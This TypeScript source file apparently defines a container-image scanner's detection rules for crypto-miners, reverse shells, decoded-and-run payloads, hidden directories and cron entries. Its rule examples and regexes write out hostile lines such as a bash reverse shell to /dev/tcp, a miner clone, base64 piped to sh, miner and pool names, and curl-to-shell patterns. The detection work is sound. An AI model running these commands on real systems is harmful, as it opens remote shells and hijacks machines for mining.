import { connectionIn } from '../code-texts.ts';
import { interpreterNames } from '../program-names.ts';
import type { Rule } from '../rule.ts';
import { connectionOf } from '../shell-connections.ts';
import { behindInPipe, overRuns, pipelinesOf, type RanCommand, shown, textsOf } from './commands.ts';
import { isDownload } from './downloads.ts';
import { outsideCodeOf } from './outside-code-of.ts';

/** Names of programs that mine, and of what they are built from. */
const miners =
  /\b(?:xmrig(?:-\w+)?|xmr-stak\w*|minerd|cpuminer(?:-\w+)?|ethminer|ccminer|nbminer|t-rex-miner|lolminer|phoenixminer|nanominer|gminer|bfgminer|cgminer|teamredminer|srbminer(?:-\w+)?|cryptonight|nicehash\w*|kinsing|kdevtmpfsi)\b/i;
const pools =
  /\bstratum\d?\+(?:tcp|ssl|tls):\/\/|(?<![\w-])(?:pool\.(?:supportxmr|minexmr|hashvault)|(?:moneroocean\.stream|nanopool\.org|2miners\.com|f2pool\.com|minexmr\.com|supportxmr\.com|nicehash\.com|herominers\.com|unmineable\.com|c3pool\.(?:com|org)|ethermine\.org|hashvault\.pro))\b/i;
/** Address of Monero: base58, 95 characters, begins with 4 or 8. */
const wallet = /\b[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/;

const mining: Rule = {
  doc: {
    id: 'miner',
    kind: 'history',
    title: 'An instruction fetches or starts a miner of crypto-currencies',
    severity: 'critical',
    why: 'It works for somebody else at your expense; such images come from attackers, or from people whose accounts they took over.',
    remediation: 'Do not run the image; find out who built it.',
    aliases: ['veinmind:history:miner-repo'],
    example: { wrong: 'RUN git clone https://github.com/xmrig/xmrig', right: '# build from sources that you know' },
    caveats: 'An image that is made to mine, by whoever pays for it, does the same.',
  },
  judge: (image) =>
    overRuns(
      image,
      ({ commands }) => {
        for (const ran of commands) {
          const texts = textsOf(ran);
          const what = texts.some((text) => pools.test(text))
            ? 'the address of a mining pool'
            : texts.some((text) => wallet.test(text))
              ? 'a wallet'
              : undefined;
          if (what !== undefined) return `It runs ${shown(ran)}: ${what}.`;
          const isNamed =
            miners.test(ran.program) ||
            ((isDownload(ran) || /^(?:git|docker|make|cmake|tar|unzip|apt-get|apt|pip3?|npm|go)$/.test(ran.program)) &&
              texts.some((text) => miners.test(text)));
          if (isNamed)
            return { evidence: `It runs ${shown(ran)}: the name of a miner.`, severity: 'high', confidence: 'high' };
        }
        return undefined;
      },
      { starts: true, resolves: true },
    ),
};

const reverseShell: Rule = {
  doc: {
    id: 'reverse-shell',
    kind: 'history',
    title: 'An instruction connects a shell with a host',
    severity: 'critical',
    why: 'Whoever listens there gets a shell in the build, or in containers where the line is written into a file.',
    remediation: 'Do not run the image; find out who built it.',
    aliases: [],
    example: { wrong: 'RUN bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', right: '# there is no right way' },
    sources: ['https://attack.mitre.org/techniques/T1059/004/'],
    caveats: 'Text that is only printed is not told, unless it goes into a file.',
  },
  judge: (image) =>
    overRuns(
      image,
      (run) => {
        for (const ran of run.commands) {
          const what = connects(ran);
          if (what !== undefined) return `It runs ${shown(ran)}: ${what}.`;
        }
        return undefined;
      },
      { starts: true, resolves: true },
    ),
};

/** Text that is written into a file, and connects a shell once somebody runs it. */
const connectingLine =
  /\bbash\s{1,5}-i\b.{0,40}[>&]|\b(?:nc|ncat|netcat)\b[^|;&\n]{0,80}\s-(?:e|c)\s{0,5}\/?\S{0,40}sh\b/s;

function connects(ran: RanCommand): string | undefined {
  const { program, command } = ran;
  const pipeline = (pipelinesOf(ran.run).get(command.pipeline) ?? []).slice(0, MOST_OF_PIPELINE);
  const found = connectionOf(
    command,
    pipeline.map((other) => other.command),
  );
  if (found !== undefined) return found;
  if (!/^(?:echo|printf|cat|tee)$/.test(program) || !isWritten(ran)) return undefined;
  const isConnecting = textsOf(ran).some((text) => connectingLine.test(text) || connectionIn(text) !== undefined);
  return isConnecting ? 'it writes code that connects a shell' : undefined;
}

/** Commands of one pipeline that are looked at. */
const MOST_OF_PIPELINE = 40;

/** Whether what a command prints goes into a file, or to a program that runs it. */
function isWritten(ran: RanCommand): boolean {
  return (
    ran.command.redirections.some(({ operator }) => /^(?:>>?|>\||&>>?)$/.test(operator)) ||
    behindInPipe(ran).some(
      ({ program }) => program === 'tee' || program === 'crontab' || interpreterNames.test(program),
    )
  );
}

const decoded: Rule = {
  doc: {
    id: 'decoded-and-run',
    kind: 'history',
    title: 'An instruction decodes a text and runs it',
    severity: 'high',
    why: 'Nobody who reads the history sees what runs. Honest builds have no reason for it.',
    remediation: 'Decode it and look at what it does.',
    aliases: [],
    example: { wrong: 'RUN echo ZWNobyBoaQ== | base64 -d | sh', right: 'RUN echo hi' },
    sources: ['https://attack.mitre.org/techniques/T1027/'],
  },
  judge: (image) =>
    overRuns(
      image,
      (run) => {
        const found = outsideCodeOf(run, () => false).find(({ kind }) => kind === 'decodes');
        if (found === undefined) return undefined;
        const { source, runner } = found;
        return runner === undefined
          ? `It runs what ${shown(source)} decodes.`
          : `It runs ${shown(runner)}: what ${shown(source)} decoded.`;
      },
      { starts: true, resolves: true },
    ),
};

const hiddenPlaces: Rule = {
  doc: {
    id: 'hidden-place',
    kind: 'history',
    title: 'An instruction puts something where nobody looks',
    severity: 'high',
    why: 'Names such as ".. ", "..." or .X11-unix in other places are there to be overlooked: attackers keep their programs in them.',
    remediation: 'Look at what is in it.',
    aliases: [],
    example: { wrong: 'RUN mkdir "/tmp/.. " && cp x "/tmp/.. /"', right: 'COPY x /usr/local/bin/' },
    sources: ['https://attack.mitre.org/techniques/T1564/001/'],
  },
  judge: (image) =>
    overRuns(image, ({ commands }) => {
      const found = commands.find((ran) => {
        const isWriter = /^(?:mkdir|cp|mv|install|touch|tar|unzip|curl|wget|chmod|ln|cat|echo|tee)$/.test(ran.program);
        const texts = [...ran.words, ...ran.command.redirections.map(({ target }) => target?.text ?? '')];
        return (
          isWriter &&
          texts.some((text) =>
            /(?:^|\/)(?:\.\.\.+|\.\.? +|\. )(?:\/|$)|\/(?:dev\/shm|var\/tmp|tmp)\/\.(?:X\d|ICE|font|XIM|x|sh|ssh|cache\d|mount|kthread)[\w-]{0,60}\/[^/]|\/dev\/shm\/[^/]/.test(
              text,
            ),
          )
        );
      });
      return found === undefined ? undefined : { evidence: `It runs ${shown(found)}.`, confidence: 'medium' };
    }),
};

const schedule: Rule = {
  doc: {
    id: 'schedule-by-run',
    kind: 'history',
    title: 'An instruction enters something into the schedule of cron',
    severity: 'low',
    why: 'It runs later and by itself, where the image runs cron; few images need that, and attackers stay that way.',
    remediation: 'Let whoever runs containers start jobs (a CronJob of Kubernetes, a timer of the host).',
    aliases: [],
    example: { wrong: 'RUN echo "* * * * * /run.sh" | crontab -', right: 'CMD ["/run.sh"]' },
    caveats: 'Images whose purpose is a schedule do it on purpose.',
  },
  judge: (image) =>
    overRuns(image, ({ commands }) => {
      for (const ran of commands) {
        const isCrontab = ran.program === 'crontab' && !ran.words.includes('-l') && !ran.words.includes('-r');
        const intoCron = ran.command.redirections.some(({ target }) =>
          /^\/(?:etc\/cron|var\/spool\/cron)/.test(target?.text ?? ''),
        );
        if (!isCrontab && !intoCron) continue;
        const fetches = commands.some((other) =>
          textsOf(other).some((text) => /\b(?:curl|wget)\b[^|\n]{0,300}\|\s{0,5}(?:ba)?sh|\/dev\/tcp\//.test(text)),
        );
        return { evidence: `It runs ${shown(ran)}.`, ...(fetches && { severity: 'critical' as const }) };
      }
      return undefined;
    }),
};

export const indicatorRules: readonly Rule[] = [mining, reverseShell, decoded, hiddenPlaces, schedule];
